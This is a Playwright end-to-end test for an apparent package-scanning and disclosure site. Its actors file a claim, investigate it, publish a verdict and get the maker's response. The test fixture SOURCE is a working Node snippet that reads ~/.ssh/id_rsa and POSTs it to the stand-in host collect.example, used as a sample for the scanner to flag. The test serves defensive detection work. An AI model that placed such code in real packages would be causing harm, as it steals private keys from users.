import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Browser, chromium } from 'playwright-core';
import { findBrowser, NO_BROWSER, startSite, type TestSite } from './testkit/site.ts';
import { packed } from './testkit/tar.ts';
import { Visitor } from './testkit/visitor.ts';

const browserPath = findBrowser();

const SOURCE = `const https = require('https');
const fs = require('fs');
const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');
https.request({ host: 'collect.example', method: 'POST', path: '/up' }).end(key);
`;

describe('a claim, from its filing to the verdict, each by their own browser', {
  skip: browserPath === undefined ? NO_BROWSER : false,
}, () => {
  const admin = randomBytes(24).toString('hex');
  const folder = mkdtempSync(join(tmpdir(), 'avow-story-'));
  let site: TestSite;
  let browser: Browser;

  before(async () => {
    const file = join(folder, 'server.yaml');
    const sha256 = createHash('sha256').update(admin).digest('hex');
    writeFileSync(
      file,
      `tokens:\n  - name: first\n    sha256: '${sha256}'\n    grants: [{ role: administrator }]\n`,
    );
    site = await startSite(file);
    browser = await chromium.launch({ executablePath: browserPath!, args: ['--no-sandbox'] });
  });
  after(async () => {
    await browser?.close();
    await site?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  async function asAdmin(method: string, path: string, body: unknown): Promise<{ code: string }> {
    const response = await fetch(`${site.url}/api/v1${path}`, {
      method,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}` },
      body: JSON.stringify(body),
    });
    const text = await response.text();
    assert.ok(response.ok, text);
    return text === '' ? { code: '' } : JSON.parse(text);
  }

  async function staff(name: string, role: string, maker?: string): Promise<Visitor> {
    const visitor = await Visitor.register(browser, site.url, name);
    const body = maker === undefined ? { role } : { role, maker };
    const { code } = await asAdmin('POST', '/invitations', body);
    await visitor.takeRole(code);
    return visitor;
  }

  test('is examined, claimed, answered, run twice, decided by two, published and told', async () => {
    const ada = await Visitor.register(browser, site.url, 'Ada');
    await ada.go('/examine');
    await ada.main.getByLabel('Or a file').setInputFiles({
      name: 'thing-1.0.0.tgz',
      mimeType: 'application/gzip',
      buffer: Buffer.from(
        packed({
          'package.json': JSON.stringify({ name: 'thing', version: '1.0.0', main: 'a.js' }),
          'a.js': SOURCE,
        }),
      ),
    });
    await ada.main.getByLabel('Everyone may see the result').check();
    await ada.press('Examine');
    await ada.page.waitForURL(/\/releases\/\d+/);
    await ada.main.getByText('collect.example').first().waitFor();

    await asAdmin('PUT', '/makers/thing-makers', { name: 'The makers of thing' });
    await asAdmin('PUT', '/products/1/maker', { maker: 'thing-makers' });

    await ada.go('/claims/new');
    await ada.fill('Product and its version', 'npm:thing@1.0.0');
    await ada.fill('Module or database update', 'a.js');
    await ada.fill('Place', 'a.js:4:1');
    await ada.fill('What it does there', 'cred.ssh-pgp -> net.http');
    await ada.press('Hand it in');
    await ada.sees('valid');

    const ivan = await staff('Ivan', 'investigator');
    await ivan.go('/desk');
    await ivan.main.getByRole('link', { name: 'claim-1' }).click();
    await ivan.press('Accept into a case');
    await ivan.go('/cases/case-1');
    await ivan.press('Take the case');

    const lena = await staff('Lena', 'lead');
    await lena.go('/cases/case-1');
    await lena.press('The maker was told');

    const mara = await staff('Mara', 'maker', 'thing-makers');
    await mara.go('/cases/case-1');
    await mara.fill('Statement', 'We know of it: it will be declared.');
    await mara.main.getByLabel('Stance').selectOption('confirms');
    await mara.press('Send');

    await ivan.go('/cases/case-1');
    await ivan.press('Run the re-check');
    await ivan.sees('Ivan');
    const irene = await staff('Irene', 'investigator');
    await irene.go('/cases/case-1');
    await irene.press('Run the re-check');
    await irene.go('/cases/case-1');
    await irene.sees('Propose a verdict');

    await ivan.go('/cases/case-1');
    await ivan.main.getByLabel('Verdict').selectOption('undeclared');
    await ivan.fill('In a few sentences', 'It sends the SSH key to collect.example.');
    await ivan.press('Propose a verdict');
    await ivan.sees('verdict proposed');

    for (const party of [ada, mara]) {
      await party.go('/cases/case-1');
      await party.fill('Statement', 'We agree.');
      await party.main.getByLabel('Stance').selectOption('agrees');
      await party.press('Send');
    }

    await lena.go('/cases/case-1');
    await lena.press('Approve the verdict');
    await lena.sees('decided');

    const stranger = await (await browser.newContext()).newPage();
    const hidden = await stranger.goto(`${site.url}/cases/case-1`);
    assert.equal(hidden?.status(), 404, 'before it is published strangers see nothing of it');

    const pablo = await staff('Pablo', 'publisher');
    await pablo.go('/cases/case-1');
    await pablo.press('Publish');
    await pablo.sees('published');

    await stranger.goto(`${site.url}/cases/case-1`);
    await stranger.getByText('It sends the SSH key to collect.example.').waitFor();
    await stranger.getByText('We know of it: it will be declared.').waitFor();
    await stranger.goto(`${site.url}/news`);
    await stranger.getByRole('main').getByText('undeclared').first().waitFor();
    for (const one of [ada, ivan, lena, mara, irene, pablo]) await one.leave();
  });
});
